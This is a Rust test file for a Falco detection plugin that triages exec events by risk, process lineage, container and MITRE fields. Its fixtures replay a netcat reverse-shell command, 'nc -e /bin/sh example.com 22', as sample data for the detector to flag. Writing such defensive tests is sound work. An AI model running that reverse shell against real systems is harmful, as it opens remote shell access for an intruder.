//! The plugin hosted in-process by `falco_plugin_runner`, fed by two test-only plugins: a
//! syscall source that replays exec events built here, and a `threads` table shaped like
//! libsinsp's (registered first, as libsinsp's own table would exist before any plugin).
//! They live inside the crate because `static_plugin!` needs our type (facts §1).

use super::{Lineage, TriagePlugin, LAST_LINEAGE, PANIC_IN_EXTRACTOR};
use crate::analysis::{self, Ancestor};
use crate::facts::{self, DecodeLimits};
use falco_event::events::{Event, EventMetadata, EventToBytes, RawEvent};
use falco_event::types::{Fd, Gid, Pid, SyscallResult, SystemTime, Uid};
use falco_event_schema::events::{PPME_SYSCALL_EXECVE_19_X, PPME_SYSCALL_OPEN_X};
use falco_event_schema::fields::types::{PT_FLAGS32_execve_flags, PT_FLAGS32_file_flags};
use falco_plugin::anyhow::{self, Error};
use falco_plugin::base::Plugin;
use falco_plugin::parse::{EventInput as ParseEventInput, ParseInput, ParsePlugin};
use falco_plugin::source::{EventBatch, EventInput, SourcePlugin, SourcePluginInstance};
use falco_plugin::static_plugin;
use falco_plugin::tables::export;
use falco_plugin::tables::TablesInput;
use falco_plugin::FailureReason;
use falco_plugin_runner::{CapturingPluginRunner, ExtractedField, MetricValue, PluginRunner};
use std::cell::RefCell;
use std::collections::VecDeque;
use std::ffi::{CStr, CString};
use typed_path::UnixPath;

// ---------------------------------------------------------------------------------------
// Test-only source plugin: replays the events queued on this thread.

thread_local! {
    static QUEUED_EVENTS: RefCell<VecDeque<Vec<u8>>> = const { RefCell::new(VecDeque::new()) };
}

struct ReplaySource;
struct ReplayInstance;

impl Plugin for ReplaySource {
    const NAME: &'static CStr = c"test_replay";
    const PLUGIN_VERSION: &'static CStr = c"0.0.0";
    const DESCRIPTION: &'static CStr = c"replays queued syscall events";
    const CONTACT: &'static CStr = c"tests";
    type ConfigType = ();

    fn new(_: Option<&TablesInput>, _: ()) -> Result<Self, Error> {
        Ok(ReplaySource)
    }
}

impl SourcePluginInstance for ReplayInstance {
    type Plugin = ReplaySource;

    fn next_batch(&mut self, _: &mut ReplaySource, batch: &mut EventBatch) -> Result<(), Error> {
        let events: Vec<Vec<u8>> = QUEUED_EVENTS.with(|q| q.borrow_mut().drain(..).collect());
        if events.is_empty() {
            return Err(anyhow::anyhow!("no more events").context(FailureReason::Eof));
        }
        for event in &events {
            batch.add(event.as_slice())?;
        }
        Ok(())
    }
}

impl SourcePlugin for ReplaySource {
    type Instance = ReplayInstance;
    // Empty source and id 0: a syscall source, allowed to emit any event type (facts §5).
    const EVENT_SOURCE: &'static CStr = c"";
    const PLUGIN_ID: u32 = 0;
    type Event<'a> = RawEvent<'a>;

    fn open(&mut self, _: Option<&str>) -> Result<ReplayInstance, Error> {
        Ok(ReplayInstance)
    }

    fn event_to_string(&mut self, _: &EventInput<RawEvent>) -> Result<CString, Error> {
        Ok(c"replayed".to_owned())
    }
}

static_plugin!(TEST_REPLAY_API = ReplaySource);

// ---------------------------------------------------------------------------------------
// Test-only `threads` table, libsinsp names and types (facts §4).

#[derive(export::Entry)]
struct ArgRow {
    value: export::Readonly<CString>,
}

#[derive(export::Entry)]
struct ThreadRow {
    tid: export::Readonly<i64>,
    pid: export::Readonly<i64>,
    ptid: export::Readonly<i64>,
    vpid: export::Readonly<i64>,
    comm: export::Readonly<CString>,
    exe: export::Readonly<CString>,
    exe_path: export::Readonly<CString>,
    args: Box<export::Table<u64, ArgRow>>,
    container_id: export::Readonly<CString>,
}

struct ThreadsFixture {
    _threads: Box<export::Table<i64, ThreadRow>>,
}

/// (tid, pid, ptid, vpid, comm, exe_path, args, container_id)
type Row = (
    i64,
    i64,
    i64,
    i64,
    &'static str,
    &'static str,
    &'static [&'static str],
    &'static str,
);

const SHIM_ID: &str = "aaaaaaaaaaaa";

const ROWS: &[Row] = &[
    // Realistic: systemd > containerd-shim > sh (docker exec) > nc (tid 300).
    (
        1,
        1,
        0,
        1,
        "systemd",
        "/usr/lib/systemd/systemd",
        &[],
        "host",
    ),
    (
        100,
        100,
        1,
        100,
        "containerd-shim",
        "/usr/bin/containerd-shim-runc-v2",
        &["-namespace", "moby"],
        "host",
    ),
    (
        200,
        200,
        100,
        7,
        "sh",
        "/bin/sh",
        &["-c", "nc -e /bin/sh example.com 22"],
        SHIM_ID,
    ),
    (300, 300, 200, 8, "nc", "/usr/bin/nc.openbsd", &[], SHIM_ID),
    // Host process the container plugin calls "host" although cgroups look like a container.
    (450, 450, 1, 450, "cron", "/usr/sbin/cron", &[], "host"),
    // Placeholder parent.
    (500, 500, -1, 500, "<NA>", "", &[], ""),
    (501, 501, 500, 501, "bash", "/bin/bash", &[], ""),
    // Cycle.
    (700, 700, 701, 700, "a", "/a", &[], ""),
    (701, 701, 700, 701, "b", "/b", &[], ""),
    // Container init (vpid 1) ends the walk inside the container.
    (
        800,
        800,
        1,
        800,
        "containerd-shim",
        "/usr/bin/containerd-shim-runc-v2",
        &[],
        "host",
    ),
    (801, 801, 800, 1, "tini", "/tini", &[], "cccccccccccc"),
    (802, 802, 801, 5, "sh", "/bin/sh", &[], "cccccccccccc"),
];

impl Plugin for ThreadsFixture {
    const NAME: &'static CStr = c"test_threads";
    const PLUGIN_VERSION: &'static CStr = c"0.0.0";
    const DESCRIPTION: &'static CStr = c"a libsinsp-shaped threads table";
    const CONTACT: &'static CStr = c"tests";
    type ConfigType = ();

    fn new(input: Option<&TablesInput>, _: ()) -> Result<Self, Error> {
        let input = input.ok_or_else(|| anyhow::anyhow!("no tables input"))?;
        let mut threads: Box<export::Table<i64, ThreadRow>> =
            input.add_table(export::Table::new(c"threads")?)?;
        let chain: Vec<Row> = (1000..=1020)
            .map(|tid| (tid, tid, tid - 1, tid, "p", "/p", &[][..], ""))
            .collect();
        for &(tid, pid, ptid, vpid, comm, exe_path, args, container_id) in ROWS.iter().chain(&chain)
        {
            let mut row = threads.create_entry()?;
            *row.tid = tid;
            *row.pid = pid;
            *row.ptid = ptid;
            *row.vpid = vpid;
            *row.comm = if tid >= 1000 {
                CString::new(format!("p{}", tid - 1000))?
            } else {
                CString::new(comm)?
            };
            *row.exe = CString::new(exe_path)?;
            *row.exe_path = CString::new(exe_path)?;
            *row.container_id = CString::new(container_id)?;
            for (i, arg) in args.iter().enumerate() {
                let mut arg_row = row.args.create_entry()?;
                *arg_row.value = CString::new(*arg)?;
                row.args.insert(&(i as u64), arg_row);
            }
            threads.insert(&tid, row);
        }
        Ok(ThreadsFixture { _threads: threads })
    }
}

impl ParsePlugin for ThreadsFixture {
    type Event<'a> = RawEvent<'a>;

    fn parse_event(&mut self, _: &ParseEventInput<RawEvent>, _: &ParseInput) -> anyhow::Result<()> {
        Ok(())
    }
}

static_plugin!(TEST_THREADS_API = ThreadsFixture);
static_plugin!(TRIAGE_API = TriagePlugin);

// ---------------------------------------------------------------------------------------
// Events.

const CONTAINER_ID: &str = "3f5e1e9a4b2c7d8e9f00112233445566778899aabbccddeeff00112233445566";

/// The parameters a test varies; everything else gets realistic values.
struct Exec {
    ts: u64,
    tid: i64,
    ptid: i64,
    exe: &'static CStr,
    args: &'static [u8],
    comm: &'static CStr,
    trusted_exepath: &'static str,
    cgroups: Vec<u8>,
    env: &'static [u8],
    tty: u32,
    flags: u32,
    cap_effective: u64,
}

impl Exec {
    /// `nc -e /bin/sh example.com 22` in a docker container, from a terminal, root, with
    /// CAP_SYS_ADMIN added, nc shipped in the image.
    fn nc(ts: u64, tid: i64, ptid: i64) -> Self {
        Exec {
            ts,
            tid,
            ptid,
            exe: c"nc",
            args: b"-e\0/bin/sh\0example.com\0\x32\x32\0",
            comm: c"nc",
            trusted_exepath: "/usr/bin/nc.openbsd",
            cgroups: format!("cpuset=/docker/{CONTAINER_ID}\0memory=/docker/{CONTAINER_ID}\0")
                .into_bytes(),
            env: b"PATH=/usr/bin\0HOME=/root\0",
            tty: 34816,
            flags: 0b1001, // EXE_WRITABLE | EXE_LOWER_LAYER
            cap_effective: 0xa80425fb | 1 << 21,
        }
    }

    fn to_bytes(&self) -> Vec<u8> {
        let params = PPME_SYSCALL_EXECVE_19_X {
            res: Some(SyscallResult(0)),
            exe: Some(self.exe),
            args: Some(self.args),
            tid: Some(Pid(self.tid)),
            pid: Some(Pid(self.tid)),
            ptid: Some(Pid(self.ptid)),
            cwd: Some(c"/root"),
            fdlimit: Some(1024),
            pgft_maj: Some(0),
            pgft_min: Some(120),
            vm_size: Some(2400),
            vm_rss: Some(900),
            vm_swap: Some(0),
            comm: Some(self.comm),
            cgroups: Some(&self.cgroups),
            env: Some(self.env),
            tty: Some(self.tty),
            vpgid: Some(Pid(self.tid)),
            loginuid: Some(Uid(u32::MAX)),
            flags: Some(PT_FLAGS32_execve_flags::from_bits_retain(self.flags)),
            cap_inheritable: Some(0),
            cap_permitted: Some(self.cap_effective),
            cap_effective: Some(self.cap_effective),
            exe_ino: Some(131_090),
            exe_ino_ctime: Some(SystemTime(1_700_000_000_000_000_000)),
            exe_ino_mtime: Some(SystemTime(1_690_000_000_000_000_000)),
            uid: Some(Uid(0)),
            trusted_exepath: Some(UnixPath::new(self.trusted_exepath)),
            pgid: Some(Pid(self.tid)),
            gid: Some(Gid(0)),
        };
        serialize(Event {
            metadata: EventMetadata {
                ts: self.ts,
                tid: self.tid,
            },
            params,
        })
    }
}

fn serialize(event: impl EventToBytes) -> Vec<u8> {
    let mut buf = Vec::new();
    event.write(&mut buf).expect("writing to a Vec");
    buf
}

fn open_exit(ts: u64, tid: i64) -> Vec<u8> {
    let params = PPME_SYSCALL_OPEN_X {
        fd: Some(Fd(3)),
        name: Some(UnixPath::new("/etc/passwd")),
        flags: Some(PT_FLAGS32_file_flags::from_bits_retain(1)),
        mode: Some(0),
        dev: Some(0),
        ino: Some(0),
    };
    serialize(Event {
        metadata: EventMetadata { ts, tid },
        params,
    })
}

// ---------------------------------------------------------------------------------------
// Harness.

struct Harness {
    runner: CapturingPluginRunner,
}

impl Harness {
    fn new(config: &CStr, with_threads: bool, events: Vec<Vec<u8>>) -> Self {
        QUEUED_EVENTS.with(|q| *q.borrow_mut() = events.into());
        let mut runner = PluginRunner::new();
        if with_threads {
            runner
                .register_plugin(&TEST_THREADS_API, c"")
                .expect("threads fixture");
        }
        runner
            .register_plugin(&TRIAGE_API, config)
            .expect("triage plugin");
        runner
            .register_plugin(&TEST_REPLAY_API, c"")
            .expect("replay source");
        Harness {
            runner: runner.start_capture().expect("capture"),
        }
    }

    fn next(&mut self) -> falco_plugin_runner::Event {
        self.runner.next_event().expect("an event")
    }

    fn field(&mut self, event: &falco_plugin_runner::Event, name: &str) -> ExtractedField {
        match self.runner.extract_field(event, name) {
            Some(Ok(value)) => value,
            other => panic!("{name}: {other:?}"),
        }
    }

    fn string(&mut self, event: &falco_plugin_runner::Event, name: &str) -> Option<String> {
        match self.field(event, name) {
            ExtractedField::String(s) => Some(s.to_string_lossy().into_owned()),
            ExtractedField::None => None,
            other => panic!("{name} is not a string: {other:?}"),
        }
    }

    fn list(&mut self, event: &falco_plugin_runner::Event, name: &str) -> Vec<String> {
        match self.field(event, name) {
            ExtractedField::Vec(items) => items
                .into_iter()
                .map(|item| match item {
                    ExtractedField::String(s) => s.to_string_lossy().into_owned(),
                    other => panic!("{name} item is not a string: {other:?}"),
                })
                .collect(),
            // The runner returns a one-element list as its element.
            ExtractedField::String(s) => vec![s.to_string_lossy().into_owned()],
            ExtractedField::None => Vec::new(),
            other => panic!("{name} is not a list: {other:?}"),
        }
    }

    fn metric(&mut self, name: &str) -> u64 {
        let full = format!("triage.{name}");
        let metric = self
            .runner
            .get_metrics()
            .into_iter()
            .find(|m| m.name == full);
        match metric.map(|m| m.value) {
            Some(MetricValue::U64(v)) => v,
            other => panic!("{full}: {other:?}"),
        }
    }
}

fn last_lineage() -> Lineage {
    LAST_LINEAGE
        .with(|l| l.borrow().clone())
        .expect("a lineage was computed")
}

// ---------------------------------------------------------------------------------------
// Tests.

#[test]
fn every_field_on_a_realistic_container_exec() {
    let nc = Exec::nc(1_000, 300, 200);
    let mut h = Harness::new(c"{}", true, vec![nc.to_bytes()]);
    let ev = h.next();

    assert_eq!(h.string(&ev, "triage.exe_origin").as_deref(), Some("image"));
    assert_eq!(
        h.list(&ev, "triage.exe_flags"),
        ["EXE_WRITABLE", "EXE_LOWER_LAYER"]
    );
    assert_eq!(
        h.field(&ev, "triage.in_container"),
        ExtractedField::Bool(true)
    );
    assert_eq!(
        h.string(&ev, "triage.container_runtime").as_deref(),
        Some("docker")
    );
    // The thread table (container plugin) wins over cgroups.
    assert_eq!(
        h.string(&ev, "triage.container_id").as_deref(),
        Some(SHIM_ID)
    );
    assert_eq!(h.list(&ev, "triage.caps_dangerous"), ["CAP_SYS_ADMIN"]);
    assert_eq!(
        h.field(&ev, "triage.privileged"),
        ExtractedField::Bool(false)
    );
    assert_eq!(
        h.field(&ev, "triage.interactive"),
        ExtractedField::Bool(true)
    );
    assert_eq!(
        h.string(&ev, "triage.lineage").as_deref(),
        Some("systemd > containerd-shim > sh > nc")
    );
    assert_eq!(
        h.list(&ev, "triage.ancestors"),
        ["sh", "containerd-shim", "systemd"]
    );

    // The lineage the analysis saw, args from the nested table included.
    let lineage = last_lineage();
    assert!(lineage.known);
    assert_eq!(
        lineage.ancestors[0],
        Ancestor {
            comm: "sh".into(),
            exe: Some("/bin/sh".into()),
            args: vec!["-c".into(), "nc -e /bin/sh example.com 22".into()],
        }
    );

    // Analysis fields carry exactly what the core says for these facts and this lineage.
    let raw = nc.to_bytes();
    let raw_event = RawEvent::from(&raw).expect("raw event");
    let typed = raw_event
        .load::<PPME_SYSCALL_EXECVE_19_X>()
        .expect("execve");
    let facts = facts::from_execve(&typed.params, &DecodeLimits::default());
    let verdict = analysis::analyze(&facts, &lineage);
    assert_eq!(
        h.field(&ev, "triage.risk"),
        ExtractedField::U64(u64::from(verdict.risk))
    );
    assert_eq!(
        h.string(&ev, "triage.severity").as_deref(),
        Some(verdict.severity.as_str())
    );
    assert_eq!(
        h.string(&ev, "triage.category").as_deref(),
        Some(verdict.category)
    );
    assert_eq!(
        h.string(&ev, "triage.summary").as_deref(),
        Some(verdict.summary.as_str())
    );
    let ids = |v: Vec<&str>| v.into_iter().map(String::from).collect::<Vec<_>>();
    assert_eq!(
        h.list(&ev, "triage.signals"),
        ids(verdict.hits.iter().map(|x| x.signal.id).collect())
    );
    assert_eq!(
        h.list(&ev, "triage.mitre.techniques"),
        ids(verdict.techniques.iter().map(|x| x.id).collect())
    );
    assert_eq!(
        h.list(&ev, "triage.mitre.tactics"),
        ids(verdict.tactics.iter().map(|x| x.id).collect())
    );
    assert_eq!(
        h.list(&ev, "triage.mitigations"),
        ids(verdict.mitigations.iter().map(|x| x.text).collect())
    );
    assert_eq!(
        h.string(&ev, "triage.mitigation").as_deref(),
        verdict.mitigations.first().map(|m| m.text)
    );
    assert_eq!(h.list(&ev, "triage.evidence"), verdict.evidence);
    assert_eq!(
        h.field(&ev, "triage.test_activity"),
        ExtractedField::Bool(verdict.test_activity)
    );
    let report = h.string(&ev, "triage.report").expect("report");
    let expected = crate::report::json_report(&facts, &lineage, &verdict);
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(&report).expect("JSON"),
        expected
    );
    assert!(!report.contains('\n'), "compact JSON");

    // 22 fields, one analysis, one lineage walk (own entry + 3 ancestors).
    assert_eq!(
        h.metric("field_extractions"),
        super::field_names().count() as u64
    );
    assert_eq!(h.metric("events_analysed"), 1);
    assert_eq!(h.metric("lineage_reads"), 4);
    assert_eq!(h.metric("decode_failures"), 0);
    assert_eq!(h.metric("panics_caught"), 0);
}

#[test]
fn every_declared_field_extracts() {
    let mut h = Harness::new(c"{}", true, vec![Exec::nc(1, 300, 200).to_bytes()]);
    let ev = h.next();
    for name in super::field_names() {
        assert!(
            matches!(h.runner.extract_field(&ev, name), Some(Ok(_))),
            "{name}"
        );
    }
    assert_eq!(h.metric("events_analysed"), 1);
}

#[test]
fn each_event_is_analysed_once() {
    let events = vec![
        Exec::nc(1, 300, 200).to_bytes(),
        Exec::nc(2, 300, 200).to_bytes(),
    ];
    let mut h = Harness::new(c"{}", true, events);
    let first = h.next();
    let second = h.next();
    for _ in 0..3 {
        h.field(&first, "triage.risk");
        h.field(&first, "triage.summary");
    }
    assert_eq!(h.metric("events_analysed"), 1);
    h.field(&second, "triage.risk");
    h.field(&second, "triage.lineage");
    assert_eq!(h.metric("events_analysed"), 2);
    // Back to the first event: the single-entry cache recomputes it.
    h.field(&first, "triage.severity");
    assert_eq!(h.metric("events_analysed"), 3);
    assert_eq!(h.metric("field_extractions"), 9);
}

#[test]
fn non_exec_events_are_not_ours() {
    let mut h = Harness::new(c"{}", true, vec![open_exit(1, 300)]);
    let ev = h.next();
    assert!(h.runner.extract_field(&ev, "triage.risk").is_none());
    assert!(h.runner.extract_field(&ev, "triage.summary").is_none());
    assert_eq!(h.metric("field_extractions"), 0);
}

#[test]
fn container_id_falls_back_to_cgroups_and_respects_host() {
    // tid 400 has no entry of its own: cgroups decide.
    let mut h = Harness::new(
        c"{}",
        true,
        vec![
            Exec::nc(1, 400, 200).to_bytes(),
            Exec::nc(2, 450, 1).to_bytes(),
        ],
    );
    let ev = h.next();
    assert_eq!(
        h.string(&ev, "triage.container_id").as_deref(),
        Some(&CONTAINER_ID[..12])
    );
    // The container plugin says host: no container id, whatever the cgroup path looks like.
    let ev = h.next();
    assert_eq!(h.string(&ev, "triage.container_id"), None);
    assert_eq!(
        h.string(&ev, "triage.lineage").as_deref(),
        Some("systemd > nc")
    );
}

#[test]
fn without_a_thread_table_lineage_is_unknown_and_cgroups_give_the_container() {
    let mut h = Harness::new(c"{}", false, vec![Exec::nc(1, 300, 200).to_bytes()]);
    let ev = h.next();
    assert_eq!(h.string(&ev, "triage.lineage"), None);
    assert!(h.list(&ev, "triage.ancestors").is_empty());
    assert!(!last_lineage().known);
    assert_eq!(
        h.string(&ev, "triage.container_id").as_deref(),
        Some(&CONTAINER_ID[..12])
    );
    assert_eq!(h.metric("lineage_reads"), 0);
}

#[test]
fn lineage_depth_is_bounded() {
    let ev = Exec::nc(1, 1021, 1020).to_bytes();
    let mut h = Harness::new(c"{}", true, vec![ev.clone()]);
    let e = h.next();
    assert_eq!(
        h.list(&e, "triage.ancestors"),
        ["p20", "p19", "p18", "p17", "p16"]
    );
    assert_eq!(
        h.string(&e, "triage.lineage").as_deref(),
        Some("p16 > p17 > p18 > p19 > p20 > nc")
    );

    let mut h = Harness::new(c"{\"lineage_depth\": 2}", true, vec![ev.clone()]);
    let e = h.next();
    assert_eq!(h.list(&e, "triage.ancestors"), ["p20", "p19"]);

    let mut h = Harness::new(c"{\"lineage_depth\": 16}", true, vec![ev.clone()]);
    let e = h.next();
    assert_eq!(h.list(&e, "triage.ancestors").len(), 16);

    let mut h = Harness::new(c"{\"lineage_depth\": 0}", true, vec![ev]);
    let e = h.next();
    assert_eq!(h.string(&e, "triage.lineage"), None);
}

#[test]
fn lineage_stops_at_placeholders_missing_parents_cycles_and_container_init() {
    let events = vec![
        Exec::nc(1, 502, 501).to_bytes(), // bash, then a <NA> placeholder
        Exec::nc(2, 600, 599).to_bytes(), // parent not in the table
        Exec::nc(3, 702, 700).to_bytes(), // a -> b -> a
        Exec::nc(4, 803, 802).to_bytes(), // sh -> tini (vpid 1) -> (shim not reached)
    ];
    let mut h = Harness::new(c"{}", true, events);
    let e = h.next();
    assert_eq!(h.list(&e, "triage.ancestors"), ["bash"]);
    let e = h.next();
    assert!(h.list(&e, "triage.ancestors").is_empty());
    assert_eq!(h.string(&e, "triage.lineage"), None);
    assert!(!last_lineage().known);
    let e = h.next();
    assert_eq!(h.list(&e, "triage.ancestors"), ["a", "b"]);
    let e = h.next();
    assert_eq!(h.list(&e, "triage.ancestors"), ["sh", "tini"]);
    assert_eq!(
        h.string(&e, "triage.container_id").as_deref(),
        Some(&CONTAINER_ID[..12])
    );
}

#[test]
fn attacker_controlled_comm_is_escaped_in_lineage() {
    let mut nc = Exec::nc(1, 300, 200);
    nc.comm = c"x\x1b[31mred\nnl";
    let mut h = Harness::new(c"{}", true, vec![nc.to_bytes()]);
    let e = h.next();
    let lineage = h.string(&e, "triage.lineage").expect("lineage");
    assert!(
        !lineage.contains('\x1b') && !lineage.contains('\n'),
        "{lineage:?}"
    );
    assert!(
        lineage.starts_with("systemd > containerd-shim > sh > x"),
        "{lineage:?}"
    );
}

#[test]
fn a_panic_in_an_extractor_is_an_error_not_an_unwind() {
    let mut h = Harness::new(c"{}", true, vec![Exec::nc(1, 300, 200).to_bytes()]);
    let e = h.next();
    assert!(matches!(h.field(&e, "triage.risk"), ExtractedField::U64(_)));
    PANIC_IN_EXTRACTOR.with(|p| p.set(true));
    assert!(matches!(
        h.runner.extract_field(&e, "triage.summary"),
        Some(Err(_))
    ));
    assert_eq!(h.metric("panics_caught"), 1);
    // The plugin keeps working; the cache was dropped, so the event is analysed again.
    assert!(matches!(
        h.field(&e, "triage.summary"),
        ExtractedField::String(_)
    ));
    assert_eq!(h.metric("events_analysed"), 2);
}

#[test]
fn truncations_are_counted_and_limits_apply() {
    let mut h = Harness::new(
        c"{\"max_args\": 2, \"max_env\": 0}",
        true,
        vec![Exec::nc(1, 300, 200).to_bytes()],
    );
    let e = h.next();
    h.field(&e, "triage.risk");
    assert_eq!(h.metric("truncations"), 1);

    let mut h = Harness::new(c"{}", true, vec![Exec::nc(1, 300, 200).to_bytes()]);
    let e = h.next();
    h.field(&e, "triage.risk");
    assert_eq!(h.metric("truncations"), 0);
}

#[test]
fn config_forms_are_accepted() {
    // A YAML map arrives as a JSON object; `init_config: {}` as "null"; absent as "{}"
    // (libsinsp fills it in; the runner does not).
    for config in [
        c"{\"max_args\": 64, \"lineage_depth\": 3}",
        c"{}",
        c"null",
        c" null ",
    ] {
        let mut h = Harness::new(config, true, vec![Exec::nc(1, 300, 200).to_bytes()]);
        let e = h.next();
        assert!(
            matches!(h.field(&e, "triage.risk"), ExtractedField::U64(_)),
            "{config:?}"
        );
    }
}

#[test]
fn bad_configs_fail_init_naming_the_key() {
    let cases: [(&CStr, &str); 5] = [
        (c"{\"max_argz\": 3}", "max_argz"),
        (c"{\"max_args\": \"many\"}", "max_args"),
        (c"{\"lineage_depth\": 17}", "lineage_depth"),
        (c"{\"max_env_bytes\": -5}", "max_env_bytes"),
        (c"{\"max_args_bytes\": 1}", "max_args_bytes"),
    ];
    for (config, key) in cases {
        let mut runner = PluginRunner::new();
        let err = runner
            .register_plugin(&TRIAGE_API, config)
            .expect_err("bad config");
        assert!(
            err.to_string().contains(&format!("`{key}`")),
            "{config:?}: {err}"
        );
    }
}
